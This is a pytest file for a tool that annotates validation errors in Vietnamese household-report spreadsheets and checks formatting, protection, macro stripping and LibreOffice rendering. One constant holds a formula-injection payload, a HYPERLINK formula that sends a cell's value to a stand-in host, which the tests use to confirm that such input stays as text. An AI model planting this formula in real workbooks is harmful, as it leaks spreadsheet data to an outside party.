import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from publish.feedback import AUTHOR, ERROR_FILL, HEADERS, LIST_SHEET, write_feedback
from tests.helpers import as_ods, as_xls, submission, write

SHEET = "Hộ theo thôn"
CRAFTED = '=HYPERLINK("http://example.invalid/?leak="&A1,"bấm")'
LIBREOFFICE_PACKAGE = "libreoffice-calc-nogui"


def errors() -> list[dict]:
    return [
        {"sheet": SHEET, "cell": "F6", "value": "719", "rule": "exceeds",
         "message_vi": "Ô Hộ theo thôn!F6: số hộ nghèo (719) lớn hơn tổng số hộ (696).",
         "message_en": "Cell Hộ theo thôn!F6: poor households (719) exceed all households (696)."},
        {"sheet": SHEET, "cell": "K5", "value": CRAFTED, "rule": "not_a_number",
         "message_vi": "Ô Hộ theo thôn!K5 không phải là số. Chỉ nhập số.",
         "message_en": "Cell Hộ theo thôn!K5 is not a number. Enter a number only."},
        {"sheet": "Chỉ tiêu", "cell": "", "value": "", "rule": "sheet_missing",
         "message_vi": "Không tìm thấy trang 'Chỉ tiêu kỳ sau'. Dùng đúng mẫu biểu.",
         "message_en": "Sheet 'Chỉ tiêu kỳ sau' not found. Use the template."},
    ]


def demo_source(directory: Path, suffix: str) -> Path:
    """The demo workbook, its preparer's name typed as a formula-looking text, in the given format."""
    sub = submission()
    sub.preparer = CRAFTED
    xlsx = write(directory / "24076.xlsx", sub)
    if suffix == ".xls":
        return as_xls(xlsx, directory / "24076.xls")
    if suffix == ".ods":
        return as_ods(xlsx, directory / "24076.ods")
    return xlsx


def cell_values(path: Path, sheet: str) -> dict[str, object]:
    book = openpyxl.load_workbook(path)
    return {c.coordinate: c.value for row in book[sheet].iter_rows() for c in row if c.value is not None}


def preparer_cell(sheet):
    return next(row[1] for row in sheet.iter_rows() if row[0].value == "Người lập biểu")


@pytest.mark.parametrize("suffix", [".xlsx", ".xls", ".ods"])
def test_feedback_lists_every_problem_and_marks_each_offending_cell(tmp_path, suffix):
    source = demo_source(tmp_path, suffix)
    before = cell_values(write(tmp_path / "reference.xlsx", submission()), SHEET)

    result = write_feedback(source, errors(), tmp_path / "out" / f"24076.loi{suffix}")

    assert result == tmp_path / "out" / "24076.loi.xlsx" and result.is_file()
    book = openpyxl.load_workbook(result)
    assert book.sheetnames[0] == LIST_SHEET and book.active.title == LIST_SHEET
    listing = book[LIST_SHEET]
    assert source.name in listing["A1"].value
    assert tuple(c.value for c in listing[2]) == HEADERS
    assert listing.freeze_panes == "A3"
    rows = [[c.value for c in row] for row in listing.iter_rows(min_row=3)]
    assert len(rows) == 3
    # The problem of no one cell comes first, then the cells in reading order.
    assert [r[0] for r in rows] == [1, 2, 3]
    assert [(r[1], r[2]) for r in rows] == [("Chỉ tiêu", None), (SHEET, "K5"), (SHEET, "F6")]
    for error in errors():
        assert any(r[4] == error["message_vi"] and r[5] == error["message_en"] for r in rows)
    assert listing["C3"].hyperlink is None
    assert listing["C4"].hyperlink.location == f"'{SHEET}'!K5"
    assert listing["C5"].hyperlink.location == f"'{SHEET}'!F6"
    # A value that looks like a formula is written, and read back, as text.
    assert listing["D4"].value == CRAFTED and listing["D4"].data_type == "s"

    sheet = book[SHEET]
    for coordinate, error in (("F6", errors()[0]), ("K5", errors()[1])):
        cell = sheet[coordinate]
        assert cell.fill.fgColor.rgb == ERROR_FILL.fgColor.rgb and cell.fill.fill_type == "solid"
        assert cell.comment.author == AUTHOR
        assert error["message_vi"] in cell.comment.text and error["message_en"] in cell.comment.text
        assert cell.comment.text.index(error["message_vi"]) < cell.comment.text.index(error["message_en"])
    assert sheet["F5"].comment is None and sheet["F5"].fill.fgColor.rgb != ERROR_FILL.fgColor.rgb
    # Values unchanged (formulas too in an .xlsx; an .xls or .ods comes back with the values last calculated).
    after = cell_values(result, SHEET)
    for coordinate, value in before.items():
        if isinstance(value, str) and value.startswith("=SUM") and suffix != ".xlsx":
            assert isinstance(after[coordinate], (int, float)), coordinate
        else:
            assert after[coordinate] == value, coordinate
    preparer = preparer_cell(book["Thông tin báo cáo"])
    assert preparer.value == CRAFTED and preparer.data_type == "s"


def test_several_problems_of_one_cell_share_one_comment(tmp_path):
    source = demo_source(tmp_path, ".xlsx")
    first, second = errors()[0], dict(errors()[0], rule="other", message_vi="Lỗi thứ hai.", message_en="Second.")
    book = openpyxl.load_workbook(write_feedback(source, [first, second], tmp_path / "out.xlsx"))
    text = book[SHEET]["F6"].comment.text
    for message in (first["message_vi"], first["message_en"], "Lỗi thứ hai.", "Second."):
        assert text.count(message) == 1
    assert book[LIST_SHEET].max_row == 4


def test_odd_sheets_and_cells_are_only_listed(tmp_path):
    source = demo_source(tmp_path, ".xlsx")
    odd = [dict(errors()[0], sheet=sheet, cell=cell, message_vi=f"vi {n}", message_en=f"en {n}")
           for n, (sheet, cell) in enumerate([("Không có", "A1"), (SHEET, "ZZZZ9"), (SHEET, "F0"), (SHEET, "C5:C8"),
                                              (SHEET, "=A1"), ("", ""), (None, None)])]
    book = openpyxl.load_workbook(write_feedback(source, odd, tmp_path / "out.xlsx"))
    listing = book[LIST_SHEET]
    assert listing.max_row == 2 + len(odd)
    assert all(listing.cell(row=r, column=3).hyperlink is None for r in range(3, listing.max_row + 1))
    assert listing["C7"].value == "=A1" and listing["C7"].data_type == "s"
    assert not any(c.comment for ws in book.worksheets for row in ws.iter_rows() for c in row)


def test_template_protection_is_kept(tmp_path):
    source = demo_source(tmp_path, ".xlsx")
    book = openpyxl.load_workbook(write_feedback(source, errors(), tmp_path / "out.xlsx"))
    assert book[SHEET].protection.sheet
    assert book[SHEET]["F6"].protection.locked is False  # still an input cell
    assert not book[LIST_SHEET].protection.sheet
    assert [ws.sheet_view.tabSelected for ws in book.worksheets] == [True] + [False] * (len(book.worksheets) - 1)


def test_an_xlsm_comes_back_as_xlsx_without_its_macros(tmp_path):
    xlsx = demo_source(tmp_path, ".xlsx")
    xlsm = tmp_path / "24076.xlsm"
    with zipfile.ZipFile(xlsx) as original, zipfile.ZipFile(xlsm, "w", zipfile.ZIP_DEFLATED) as macro:
        for item in original.infolist():
            data = original.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml").replace(
                    b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                 b"</Types>")
            macro.writestr(item, data)
        macro.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really macros")

    result = write_feedback(xlsm, errors(), tmp_path / "out" / "24076.xlsm")

    assert result.suffix == ".xlsx"
    with zipfile.ZipFile(result) as archive:
        names = archive.namelist()
        content_types = archive.read("[Content_Types].xml")
    assert not any("vba" in name.lower() for name in names)
    assert b"macroEnabled" not in content_types and b"vbaProject" not in content_types
    assert openpyxl.load_workbook(result)[SHEET]["F6"].comment is not None


def test_a_resubmitted_feedback_workbook_gets_a_fresh_list_and_fresh_notes(tmp_path):
    source = demo_source(tmp_path, ".xlsx")
    first = write_feedback(source, errors(), tmp_path / "first.xlsx")
    fixed_f6 = [e for e in errors() if e["cell"] != "F6"]
    book = openpyxl.load_workbook(write_feedback(first, fixed_f6, tmp_path / "second.xlsx"))
    assert book.sheetnames.count(LIST_SHEET) == 1 and book.sheetnames[0] == LIST_SHEET
    assert book[LIST_SHEET].max_row == 2 + len(fixed_f6)
    assert book[SHEET]["F6"].comment is None
    assert book[SHEET]["K5"].comment.text.count(errors()[1]["message_en"]) == 1


def libreoffice() -> str:
    binary = shutil.which("libreoffice") or shutil.which("soffice")
    if binary is None:
        pytest.fail(f"LibreOffice is not installed; install it with "
                    f"`apt-get install -y --no-install-recommends {LIBREOFFICE_PACKAGE}`")
    return binary


@pytest.mark.parametrize("suffix", [".xlsx", ".ods"])
def test_the_feedback_workbook_opens_in_libreoffice(tmp_path, suffix):
    result = write_feedback(demo_source(tmp_path, suffix), errors(), tmp_path / "feedback.xlsx")
    pdf_directory = tmp_path / "pdf"
    # A profile of its own: parallel runs (or a LibreOffice the user has open) would otherwise share one and clash.
    profile = (tmp_path / "libreoffice-profile").as_uri()
    done = subprocess.run(
        [libreoffice(), f"-env:UserInstallation={profile}", "--headless", "--norestore",
         "--convert-to", "pdf", "--outdir", str(pdf_directory), str(result)],
        capture_output=True, text=True, timeout=180)
    pdf = pdf_directory / "feedback.pdf"
    assert done.returncode == 0 and pdf.is_file(), f"LibreOffice failed: {done.stdout}\n{done.stderr}"
    assert pdf.stat().st_size > 0 and pdf.read_bytes().startswith(b"%PDF")
